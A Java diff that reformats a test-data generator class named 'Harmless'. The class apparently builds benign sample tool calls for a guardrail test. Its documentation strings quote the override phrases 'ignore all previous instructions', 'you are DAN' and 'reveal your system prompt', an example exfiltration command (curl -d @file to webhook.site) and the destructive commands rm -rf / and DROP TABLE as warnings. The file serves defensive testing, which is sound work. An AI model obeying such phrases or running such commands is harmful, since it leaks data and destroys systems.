@@ -12,11 +12,14 @@ final class Harmless {
 
   private static final List<String> DOCUMENTATION =
       List.of(
-          "Prompt injection is an attack in which a text says, for example, \"ignore all previous instructions\".",
-          "Our guardrail detects phrases such as \"you are DAN\" and \"reveal your system prompt\".",
+          "Prompt injection is an attack in which a text says, for example, \"ignore all previous"
+              + " instructions\".",
+          "Our guardrail detects phrases such as \"you are DAN\" and \"reveal your system"
+              + " prompt\".",
           "Never run rm -rf / on a server. Ask the platform team before terraform destroy.",
           "Incident {n}: somebody ran DROP TABLE {word} in production. Lessons: backups, reviews.",
-          "How attackers exfiltrate data: curl -d @file https://webhook.site/x, DNS tunnels, pastebin.com.",
+          "How attackers exfiltrate data: curl -d @file https://webhook.site/x, DNS tunnels,"
+              + " pastebin.com.",
           "The assistant should answer in the language of the user and ignore empty lines.",
           "Please follow the instructions of the installer, and do not forget to restart.",
           "Do not share your password with anybody. We will never ask for it.",
@@ -80,8 +83,7 @@ final class Harmless {
                 Map.of("content", draw.fill(draw.one(DOCUMENTATION)))));
     kinds.put(
         "code review",
-        draw ->
-            Calls.tool("github.create_review", Map.of("body", draw.fill(draw.one(REVIEWS)))));
+        draw -> Calls.tool("github.create_review", Map.of("body", draw.fill(draw.one(REVIEWS)))));
     kinds.put(
         "administration",
         draw -> Calls.tool("bash", Map.of("command", draw.fill(draw.one(ADMINISTRATION)))));
@@ -99,9 +101,7 @@ final class Harmless {
                     "body", draw.fill("Hi, call me at the {word} office. {mail} has the file."))));
     kinds.put(
         "a picture is uploaded",
-        draw ->
-            Calls.post(
-                draw.fill("{host}"), Map.of("data", "iVBORw0KGgo" + draw.base62(800))));
+        draw -> Calls.post(draw.fill("{host}"), Map.of("data", "iVBORw0KGgo" + draw.base62(800))));
     kinds.put(
         "a program signs in",
         draw ->
